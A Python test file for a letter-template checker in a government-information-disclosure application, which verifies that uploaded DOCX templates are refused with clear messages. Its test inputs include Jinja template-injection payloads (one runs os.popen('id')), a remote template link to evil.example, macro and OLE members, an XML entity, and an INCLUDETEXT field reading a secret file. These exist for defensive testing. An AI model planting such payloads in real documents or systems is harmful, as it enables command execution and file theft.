"""Templates of one's own: refused with words that name the fault, and never a way into the program."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from io import BytesIO
from typing import Any

import pytest
from docx import Document
from hypothesis import given
from hypothesis import strategies as st

from gongkai.applications.letters.checking import TemplateRefusedError, check
from gongkai.applications.letters.filling import fill, text_of
from gongkai.applications.letters.points import ROWS, names
from gongkai.applications.letters.printing import pdf_from
from gongkai.applications.letters.store import built_in, current, put, revert
from gongkai.bureau.models import Agency
from gongkai.bureau.roles import NotPermittedError

from .world import World

BASE = built_in("not_held").content


def changed(change: Callable[[Any], object], template: bytes = BASE) -> bytes:
    document, buffer = Document(BytesIO(template)), BytesIO()
    change(document)
    document.save(buffer)
    return buffer.getvalue()


def with_paragraph(text: str, template: bytes = BASE) -> bytes:
    return changed(lambda document: document.add_paragraph(text), template)


def without(text: str, template: bytes = BASE) -> bytes:
    def drop(document: Any) -> None:
        for paragraph in document.paragraphs:
            if text in paragraph.text:
                paragraph._p.getparent().remove(paragraph._p)

    return changed(drop, template)


def with_member(name: str, data: bytes, template: bytes = BASE) -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(BytesIO(template)) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for each in source.namelist():
            if each != name:
                target.writestr(each, source.read(each))
        target.writestr(name, data)
    return buffer.getvalue()


def split_article() -> bytes:
    def add(document: Any) -> None:
        paragraph = document.add_paragraph()
        for piece in ("依照条例第", "三十六", "条第四项"):
            paragraph.add_run(piece)

    return changed(add)


def in_header(text: str) -> bytes:
    def add(document: Any) -> None:
        document.sections[0].header.paragraphs[0].text = text

    return changed(add)


def refused(code: str, content: bytes) -> str:
    with pytest.raises(TemplateRefusedError) as error:
        check(code, content)
    return str(error.value)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (without("{{ remedies }}"), "缺少“救济途径”的位置，请加上 {{ remedies }}"),
        (without("{{ grounds }}"), "缺少“依据”的位置"),
        (without("{{ search }}"), "缺少“检索情况及结果”的位置"),
        (with_paragraph("{{ remedy }}"), "没有占位符 {{ remedy }}"),
        (with_paragraph("依据条例第三十六条第四项"), "第三十六条第四项"),
        (with_paragraph("依据条例第36条"), "“第36条”"),
        (split_article(), "第三十六条第四项"),
        (in_header("根据第 十四 条"), "第 十四 条"),
        (with_paragraph("{{ search"), "占位符写错了"),
        (with_paragraph("{% if search %}没有结束"), "占位符写错了"),
    ],
)
def test_what_is_wrong_with_a_template_is_named(content: bytes, message: str) -> None:
    assert message in refused("not_held", content)


@pytest.mark.parametrize(
    "text",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ search.__class__ }}",
        "{{ search|upper }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ range(1000000000) }}",
        "{{ 'a' * 1000000000 }}",
        "{% set x = 1 %}",
        "{% for a in search %}{% for b in search %}x{% endfor %}{% endfor %}",
        "{% include 'secret' %}",
        "{% macro m() %}{% endmacro %}",
        "{{ lipsum }}",
        "{{ self }}",
        "{{ 7 * 7 }}",
        "{% raw %}{{ search }}{% endraw %}{{ search['x'] }}",
    ],
)
def test_no_template_runs_anything(text: str) -> None:
    assert refused("not_held", with_paragraph(text))


def test_a_place_where_nothing_is_shown_is_no_place() -> None:
    hidden = with_paragraph("{% if not search %}{{ remedies }}{% endif %}", without("{{ remedies }}"))
    assert "印不出来" in refused("not_held", hidden)


def test_a_consultation_without_its_slip_is_refused() -> None:
    content = built_in("third_party_consultation").content
    assert "缺少“回执”部分" in refused("third_party_consultation", without("回　　执", content))


def test_a_letter_to_a_third_party_has_no_place_for_the_applicants_request() -> None:
    content = built_in("third_party_consultation").content
    message = refused("third_party_consultation", with_paragraph("{{ requested }}", content))
    assert "没有占位符 {{ requested }}" in message


def test_a_closure_says_nothing_of_remedies() -> None:
    assert "没有占位符 {{ remedies }}" in refused(
        "closure", with_paragraph("{{ remedies }}", built_in("closure").content)
    )


_EXTERNAL = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"not a zip", "另存为 docx"),
        (BASE[:2000], "另存为 docx"),
        (b"x" * 2_000_001, "超过 2 MB"),
        (with_member("word/vbaProject.bin", b"macro"), "有宏"),
        (with_member("word/embeddings/oleObject1.bin", b"ole"), "有宏"),
        (with_member("word/_rels/settings.xml.rels", _EXTERNAL), "引用了外部"),
        (with_member("word/big.xml", b" " * 30_000_000), "解压后过大"),
        (
            with_member("word/document.xml", b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'),
            "外部实体",
        ),
        (with_member("word/document.xml", b"<broken"), "不是完好的"),
    ],
)
def test_what_is_no_plain_document_is_refused(content: bytes, message: str) -> None:
    assert message in refused("not_held", content)


def test_a_field_that_fetches_is_refused() -> None:
    def add(document: Any) -> None:
        from docx.oxml import parse_xml

        ns = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
        run = parse_xml(f'<w:r {ns}><w:instrText>INCLUDETEXT "c:\\\\secret.txt"</w:instrText></w:r>')
        document.add_paragraph()._p.append(run)

    assert "INCLUDETEXT" in refused("not_held", changed(add))


_ANY = st.text(st.characters(codec=None), max_size=60)
_HOSTILE = st.sampled_from(
    ["{{ 7*7 }}", "{% if x %}", "{_{ a }_}", "{#", "</w:t></w:r>", "<w:p>", "&amp;", "\x00", "\ud800", "\a\f\v", "]]>"]
)


@given(st.lists(st.one_of(_ANY, _HOSTILE), min_size=1, max_size=4).map("".join))
def test_no_words_break_a_letter_or_are_read_as_a_command(text: str) -> None:
    said: dict[str, Any] = {name: name for name in names("partial_disclosure")}
    said["reasons"] = text
    said["severance"] = [dict.fromkeys(ROWS["severance"], text)]
    filled = text_of(fill(built_in("partial_disclosure").content, said))
    kept = "".join(each for each in text if each.isprintable() and not each.isspace())
    assert kept in "".join(each for each in filled if each.isprintable() and not each.isspace())


@pytest.mark.parametrize("text", ["#set page(width: 1cm)", "*粗* _斜_ $x$ @ref <label> \\", "“”‘’—…〔〕㎡🙂𠮷"])
def test_no_words_are_read_as_markup_in_the_pdf(text: str) -> None:
    from pypdfium2 import PdfDocument

    said: dict[str, Any] = {name: name for name in names("not_held")} | {"search": text}
    pdf = PdfDocument(pdf_from([fill(built_in("not_held").content, said)], "文书", "局"))
    printed = "".join(page.get_textpage().get_text_range() for page in pdf)
    for piece in text.replace("🙂", " ").split():
        assert piece in "".join(printed.split())


# --- Versions ----------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_versions_are_kept_and_can_be_taken_back(world: World) -> None:
    first, second = with_paragraph("第一版的话"), with_paragraph("第二版的话")
    put(world.agency, "not_held", first, "加一句", actor=world.clerk)
    put(world.agency, "not_held", second, actor=world.leader)
    assert current(world.agency, "not_held").content == second
    revert(world.agency, "not_held", 1, actor=world.clerk)
    assert (current(world.agency, "not_held").version, current(world.agency, "not_held").content) == (3, first)
    revert(world.agency, "not_held", 0, actor=world.clerk)
    assert current(world.agency, "not_held") == built_in("not_held")
    with pytest.raises(NotPermittedError, match="没有第 9 版"):
        revert(world.agency, "not_held", 9, actor=world.clerk)


@pytest.mark.django_db
def test_a_refused_template_leaves_the_one_in_use(world: World) -> None:
    with pytest.raises(TemplateRefusedError):
        put(world.agency, "not_held", without("{{ remedies }}"), actor=world.clerk)
    assert current(world.agency, "not_held").version == 0
    with pytest.raises(NotPermittedError, match="由本机关的经办人员或者负责人维护"):
        put(world.agency, "not_held", BASE, actor=world.handler)
    elsewhere = Agency.add_root(code="other", name="别的局")
    with pytest.raises(NotPermittedError, match="由本机关"):
        put(elsewhere, "not_held", BASE, actor=world.clerk)
